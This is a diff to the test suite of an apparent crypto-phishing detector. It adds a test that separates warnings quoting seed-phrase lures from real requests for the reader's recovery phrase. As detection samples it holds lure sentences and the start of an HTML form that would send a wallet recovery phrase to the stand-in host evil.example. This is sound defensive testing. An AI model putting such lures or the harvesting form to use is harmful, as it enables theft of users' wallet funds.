@@ -72,6 +72,17 @@ def test_seed_request_text() -> None:
     assert set(run_msg("Verify now: type in your seed phrase")) == {"crypto.seed_request"}
 
 
+def test_a_lure_quoted_in_a_warning_asks_nothing() -> None:
+    """Reported speech (coinguard.lures._REPORTED): the awareness mail tells what fake mails ask for."""
+    warning = ("We are seeing fake mails that pretend to come from your wallet vendor, asking you to verify your "
+               "wallet or enter your recovery phrase on a website.")
+    assert not seed_request_text(warning)
+    assert not seed_request_text("If you receive an email asking you to enter your seed phrase, delete it.")
+    # the request made to the reader in the next sentence is still one
+    assert seed_request_text(warning + " To keep your funds, enter your recovery phrase below.")
+    assert seed_request_text("This message asks you to enter your recovery phrase to keep access.")
+
+
 def test_html_form_asking_for_the_phrase() -> None:
     form = ('<form action="https://evil.example/x"><label>Wallet</label>'
             '<textarea name="phrase" placeholder="Enter your recovery phrase"></textarea>'
